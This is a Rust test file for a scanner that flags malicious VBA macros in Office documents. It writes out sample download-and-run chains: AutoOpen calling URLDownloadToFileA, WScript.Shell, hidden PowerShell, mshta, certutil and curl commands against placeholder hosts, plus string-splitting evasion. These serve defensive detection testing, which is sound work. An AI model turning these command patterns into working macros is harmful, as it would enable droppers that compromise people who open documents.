//! Judgement of whole projects: every finding with a case that raises it and a near miss that does not.

use sekisho_samples::office::cfb::Cfb;
use sekisho_samples::office::vba::{Module, Project};

use super::{ProjectUnpacker, looks_like_vba};
use crate::formats::trial;
use crate::model::Severity;
use crate::stage::Said;

/// What is said of a project in a compound file.
fn project(project: &Project) -> Said {
    let file = project.streams().into_iter().fold(Cfb::new(), |file, (path, bytes)| file.stream(&path, bytes));
    let (said, result) = trial::unpack(&ProjectUnpacker, "vbaProject.bin", file.build());
    result.unwrap();
    said
}

/// What is said of a project of standard modules with these sources.
fn modules(sources: &[&str]) -> Said {
    let modules = sources.iter().enumerate().map(|(n, source)| Module::standard(&format!("Module{n}"), source));
    project(&Project::new(modules.collect()))
}

/// What is said of a lone source file.
fn lone(source: &str) -> Said {
    trial::analyze(&super::analyze::SourceAnalyzer, "a.bas", source.as_bytes())
}

fn ids(said: &Said) -> Vec<&str> {
    said.findings.iter().map(|finding| finding.kind.id).collect()
}

fn observed<'a>(said: &'a Said, id: &str) -> &'a str {
    said.findings.iter().find(|finding| finding.kind.id == id).map_or("", |finding| finding.observed.as_str())
}

fn severity(said: &Said, id: &str) -> Option<Severity> {
    said.findings.iter().find(|finding| finding.kind.id == id).map(|finding| finding.severity)
}

const FETCH: &str = "Declare Function Fetch Lib \"harmless-none.dll\" Alias \"URLDownloadToFileA\" (ByVal a As Long, ByVal u As String) As Long\n";

#[test]
fn a_path_from_opening_to_execution_is_decisive() {
    let said = lone(&format!(
        "{FETCH}Sub AutoOpen()\n  Stage\nEnd Sub\nPrivate Sub Stage()\n  Fetch 0, \"http://example.com/a\"\n  Launch\nEnd Sub\n\
         Sub Launch()\n  Shell \"harmless-none.exe\"\nEnd Sub\n"
    ));
    assert_eq!(
        observed(&said, "vba-open-to-execute"),
        "AutoOpen → Stage → Fetch (urldownloadtofilea) \"http://example.com/a\", AutoOpen → Stage → Launch → Shell \"harmless-none.exe\""
    );
    let finding = said.findings.iter().find(|finding| finding.kind.id == "vba-open-to-execute").unwrap();
    assert!(finding.decisive);
    assert_eq!(finding.at.line, Some(10));
}

#[test]
fn a_path_leads_through_modules_forms_and_names_in_texts() {
    let body = "Sub Body()\n  CreateObject(\"MSXML2.XMLHTTP\").send\n  CreateObject(\"WScript.Shell\").Run \"a.exe\"\nEnd Sub\n";
    for start in [
        "Sub AutoOpen()\n  Module1.Body\nEnd Sub\n",
        "Sub AutoOpen()\n  Application.Run \"Module1.\" & \"Body\"\nEnd Sub\n",
        "Sub AutoOpen()\n  Application.OnTime Now, \"Body\"\nEnd Sub\n",
        "Sub AutoOpen()\n  If True Then: Call Body\nEnd Sub\n",
        "Sub AutoOpen()\n  CallByName Me, \"Body\", 1\nEnd Sub\n",
        "Sub Document_Open()\n  x = Array(Body())\nEnd Sub\n",
    ] {
        let said = modules(&[start, body]);
        assert!(ids(&said).contains(&"vba-open-to-execute"), "{start}: {:?}", ids(&said));
    }
    let form = Module::document("Form1", &body.replace("Body", "UserForm_Initialize"));
    let said = project(&Project::new(vec![Module::standard("M", "Sub AutoOpen()\nForm1.Show\nEnd Sub\n"), form]));
    assert!(ids(&said).contains(&"vba-open-to-execute"));
}

#[test]
fn parts_without_a_path_are_suspicious_only() {
    let said = modules(&[
        "Sub Workbook_Open()\n  MsgBox \"hello\"\nEnd Sub\n",
        "Sub Update()\n  CreateObject(\"MSXML2.XMLHTTP\").send\nEnd Sub\nSub Tool()\n  Shell \"tool.exe\"\nEnd Sub\n",
    ]);
    let ids = ids(&said);
    assert!(ids.contains(&"vba-open-to-execute-unconnected") && !ids.contains(&"vba-open-to-execute"), "{ids:?}");
    // The same parts behind buttons only.
    let said = modules(&[
        "Sub Update()\n  CreateObject(\"MSXML2.XMLHTTP\").send\nEnd Sub\nSub Tool()\n  Shell \"tool.exe\"\nEnd Sub\n",
    ]);
    assert!(!self::ids(&said).contains(&"vba-open-to-execute-unconnected"));
    assert_eq!(severity(&said, "vba-starts-process"), Some(Severity::Low));
}

#[test]
fn comments_and_texts_are_no_code() {
    let said = modules(&[
        "' Workbook_Open: Call Shell(\"cmd\")\nSub Help()\n  MsgBox \"Sub AutoOpen(): Shell cmd\"\n  Rem Shell \"x\"\nEnd Sub\n' x _\nSub AutoOpen()\n",
    ]);
    assert_eq!(ids(&said), ["vba-present", "vba-compiled-code-missing"]);
}

#[test]
fn a_start_of_a_program_on_opening_is_said() {
    let said = lone("Sub Workbook_Open()\n  Shell prog, vbHide\nEnd Sub\n");
    assert!(ids(&said).contains(&"vba-open-starts-process") && ids(&said).contains(&"vba-starts-process"));
    let said = lone("Sub Workbook_Open()\n  Shell \"notepad.exe a.txt\"\nEnd Sub\n");
    assert_eq!(ids(&said), ["vba-auto-open"]);
    // Writing a log beside it proves nothing; writing a script does.
    let log = "Sub Workbook_Open()\n  Open \"a.log\" For Output As #1\n  Shell prog\nEnd Sub\n";
    assert!(ids(&lone(log)).contains(&"vba-open-starts-process"));
    assert!(ids(&lone(&log.replace(".log", ".vbs"))).contains(&"vba-open-to-execute"));
}

#[test]
fn a_command_that_fetches_is_a_download() {
    for command in [
        "\"powershell -w hidden -enc AAAA\"",
        "\"mshta \" & \"http://example.com/a\"",
        "\"cmd /c certutil -urlcache -f http://example.com/a\"",
    ] {
        let said = lone(&format!("Sub AutoOpen()\n  c = {command}\n  Shell c, 0\nEnd Sub\n"));
        assert!(ids(&said).contains(&"vba-open-to-execute"), "{command}");
    }
    assert!(!ids(&lone("Sub AutoOpen()\n  Shell \"cmd /c dir\"\nEnd Sub\n")).contains(&"vba-open-to-execute"));
}

#[test]
fn objects_count_by_what_is_asked_of_them() {
    for (source, wanted) in [
        ("CreateObject(\"Scripting.Dictionary\").Add 1, 2", None),
        ("x = CreateObject(\"WScript.Shell\").SpecialFolders(\"Desktop\")", None),
        ("CreateObject(\"WScript.\" & \"Shell\").Run x", Some("vba-starts-process")),
        ("GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run x", Some("vba-starts-process")),
        ("GetObject(\"winmgmts:Win32_Process\").Create \"a\"", Some("vba-starts-process")),
        ("GetObject(\"winmgmts:\").ExecQuery \"select\"", None),
        ("Dim s As New WshShell\ns.Exec x", Some("vba-starts-process")),
        ("Dim h As New MSXML2.XMLHTTP60\nh.send", Some("vba-downloads")),
        ("With CreateObject(\"ADODB.Stream\")\n.SaveToFile x\nEnd With", Some("vba-writes-file")),
        ("Open x For Binary As #1\nPut #1, , b", Some("vba-writes-file")),
        ("Open x For Binary As #1\nGet #1, , b", None),
        ("ExecuteExcel4Macro \"EXEC(\"\"a\"\")\"", Some("vba-starts-process")),
        ("ExecuteExcel4Macro \"GET.DOCUMENT(50)\"", None),
        ("Application.Run \"Other\"", None),
        ("[Shell] \"a.exe\"", Some("vba-starts-process")),
        ("VBA.Shell \"a.exe\"", Some("vba-starts-process")),
        ("ActiveWorkbook.SaveAs \"a.xlsx\"", None),
    ] {
        let said = lone(&format!("Sub Button1()\n{source}\nEnd Sub\n"));
        assert_eq!(ids(&said).first().copied(), wanted, "{source}");
    }
    // A name of one's own is not the library's.
    assert!(ids(&lone("Sub A()\nShell \"x\"\nEnd Sub\nSub Shell(x)\nEnd Sub\n")).is_empty());
}

#[test]
fn events_are_told_apart() {
    assert_eq!(ids(&lone("Sub CommandButton1_Click()\nEnd Sub\n")), ["vba-on-click"]);
    assert_eq!(ids(&lone("Sub InkPicture1_Painted(x)\nEnd Sub\n")), ["vba-auto-open"]);
    // Standard modules receive no events of controls.
    let said = modules(&["Sub Report_Layout()\nEnd Sub\n"]);
    assert!(!ids(&said).contains(&"vba-auto-open"));
    let said = project(&Project::new(vec![Module::document("Sheet1", "Sub Ink_Painted()\nEnd Sub\n")]));
    assert!(ids(&said).contains(&"vba-auto-open"));
    assert_eq!(
        said.findings.iter().find(|f| f.kind.id == "vba-auto-open").unwrap().at.to_string(),
        "module Sheet1 line 7"
    );
}

#[test]
fn disguise_is_said_and_its_texts_are_given() {
    let said = lone("Sub A()\n  u = \"ht\" & \"tp://192.0.2.10/\" & \"a.bin\"\n  v = \"plain\" & \"er\"\nEnd Sub\n");
    assert!(ids(&said).contains(&"vba-obfuscated"));
    assert_eq!(said.children.len(), 1);
    assert_eq!(said.children[0].bytes, "http://192.0.2.10/a.bin\nplainer\n".as_bytes());
    let said = lone("Sub A()\n  u = \"http://example.com/\"\nEnd Sub\n");
    assert!(ids(&said).is_empty() && said.children.is_empty());
}

#[test]
fn constants_reach_across_modules() {
    let said = modules(&[
        "Public Const HALF = \"WScript.\"\nPublic part As String\n",
        "Private part2 As String\nSub AutoOpen()\n  part2 = \"Shell\"\n  Go\nEnd Sub\nSub Go()\n  CreateObject(HALF & part2).Run x\nEnd Sub\n",
    ]);
    assert!(ids(&said).contains(&"vba-open-starts-process"), "{:?}", ids(&said));
}

#[test]
fn locks_and_hidden_modules_are_said() {
    let mut made = Project::new(vec![
        Module::document("ThisDocument", "Sub X()\nEnd Sub\n"),
        Module::standard("Module1", "Sub Y()\nEnd Sub\n"),
    ]);
    let plain = project(&made);
    assert_eq!(ids(&plain), ["vba-present", "vba-compiled-code-missing"]);
    made.is_locked = true;
    made.modules[1].is_hidden = true;
    let said = project(&made);
    assert!(ids(&said).contains(&"vba-project-locked") && ids(&said).contains(&"vba-module-hidden"));
    assert_eq!(observed(&said, "vba-module-hidden"), "Module1: missing from the PROJECT stream");
}

#[test]
fn modules_become_children() {
    let said = project(&Project::new(vec![Module::standard("集計", "Sub 実行()\nEnd Sub\n")]));
    assert_eq!(said.children.len(), 1);
    assert_eq!(said.children[0].name.text, "VBA/集計");
    assert_eq!(said.children[0].origin.detail, "VBA module, code page 932");
    assert_eq!(said.children[0].bytes, "Attribute VB_Name = \"集計\"\r\nSub 実行()\r\nEnd Sub\r\n".as_bytes());
}

#[test]
fn hostile_programs_stay_cheap() {
    let many: String =
        (0..3_000).map(|n| format!("Sub p{n}_Painted()\n p{}_Painted\n Shell x\nEnd Sub\n", n + 1)).collect();
    lone(&many);
    let names: Vec<String> =
        (0..400).map(|_| "Sub AutoOpen()\n Go\n Module1.Go\nEnd Sub\nSub Go()\nEnd Sub\n".to_owned()).collect();
    modules(&names.iter().map(String::as_str).collect::<Vec<_>>());
    lone(&format!("Sub A()\n{}End Sub\n", "x = x & Chr(65) & x\n".repeat(5_000)));
    lone(&format!("Sub A()\n{}End Sub\n", "Open x For Binary As #1\n".repeat(20_000)));
}

#[test]
fn recognises_modules_and_not_their_like() {
    assert!(looks_like_vba("Attribute VB_Name = \"Module1\"\r\n"));
    assert!(looks_like_vba("VERSION 1.0 CLASS\r\nBEGIN\r\nEND\r\nAttribute VB_Name = \"C\"\r\n"));
    assert!(looks_like_vba("' note\nSub AutoOpen()\nShell \"x\"\nEnd Sub\n"));
    assert!(looks_like_vba("Option Explicit\nFunction f(x As Long)\nEnd Function\n"));
    assert!(!looks_like_vba("Dim x\nSub a()\nEnd Sub\n"));
    assert!(!looks_like_vba("Option A is better than B as string theory says.\n"));
    assert!(!looks_like_vba("<html>\nSub AutoOpen()\nEnd Sub\n"));
}

#[test]
fn more_source_than_is_judged_is_said() {
    let said = lone(&format!("Sub A()\n{}End Sub\n", "x = 1\n".repeat(400_000)));
    assert!(said.problems.iter().any(|problem| problem.kind == crate::model::ProblemKind::Limit));
}

#[test]
fn many_calls_of_many_procedures_of_one_name_cost_their_length() {
    for call in ["a\n", "x.a\n", "Me.a\n", "Module0.a\n"] {
        let source = format!("{}Sub AutoOpen()\n{}End Sub\n", "Sub a()\nEnd Sub\n".repeat(20_000), call.repeat(50_000));
        let said = modules(&[&source]);
        assert!(said.findings.iter().any(|finding| finding.kind.id == "vba-auto-open"), "{call}");
    }
}

#[test]
fn functions_that_make_much_of_little_are_paid_for() {
    let said = lone(&format!("Sub a()\n{}End Sub\n", "x = String(60000, \"a\")\n".repeat(40_000)));
    assert!(said.problems.iter().any(|problem| problem.kind == crate::model::ProblemKind::Limit));
}

#[test]
fn texts_are_followed_into_procedures() {
    let source = "Sub AutoOpen()\nStage \"http://example.com/\" & \"a\"\nEnd Sub\nSub Stage(u)\nLaunch \"mshta \" & u\nEnd Sub\n\
                  Sub Launch(c)\nShell c\nEnd Sub\n";
    let said = lone(source);
    assert_eq!(
        observed(&said, "vba-open-to-execute"),
        "AutoOpen → Stage → Launch → Shell \"mshta http://example.com/a\""
    );
    // Two calls with two texts: neither is taken.
    let said = lone(&source.replace("End Sub\nSub Stage", "Stage \"b\"\nEnd Sub\nSub Stage"));
    assert!(!ids(&said).contains(&"vba-open-to-execute"), "{:?}", ids(&said));
}

#[test]
fn texts_of_forms_are_known() {
    let parts = [super::program::Part {
        name: "M",
        sort: None,
        source: "Sub AutoOpen()\nShell Panel.Label1.Caption & Panel.Box1\nEnd Sub\n",
    }];
    let strings = [("panel.label1.caption", "cmd /c curl "), ("panel.box1.value", "http://example.com/a")];
    let strings = strings.map(|(name, value)| (name.to_owned(), value.to_owned())).into();
    let program = super::program::Program::with(&parts, &strings);
    let shell = super::abilities::abilities(&program);
    assert_eq!(shell[0].what, "Shell \"cmd /c curl http://example.com/a\" from Panel.Label1.Caption & …");
}
